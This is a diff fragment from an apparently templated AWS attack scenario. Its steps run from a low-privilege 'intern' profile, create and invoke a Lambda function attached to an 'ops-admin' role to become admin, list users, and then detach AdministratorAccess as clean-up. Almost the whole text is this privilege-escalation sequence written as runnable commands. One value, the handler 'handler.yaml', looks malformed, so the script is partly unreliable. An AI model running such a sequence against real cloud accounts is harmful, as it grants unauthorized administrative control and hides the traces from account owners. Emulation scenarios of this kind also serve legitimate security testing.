@@ -7,9 +7,7 @@ aws iam list-roles --profile intern --query 'Roles[].[RoleName,AssumeRolePolicyD
 # step escalate
 aws lambda create-function --function-name escalate --runtime python3.12 --handler handler.yaml --role arn:aws:iam::{{account}}:role/ops-admin --zip-file fileb://escalate.zip --profile intern
 # step become-admin
-aws-mode system
 aws lambda invoke --function-name escalate --payload fileb://event.json out.json --profile intern
-aws-mode builtin
 aws iam list-users --profile intern
 # step clean-up
 aws iam detach-user-policy --user-name intern --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
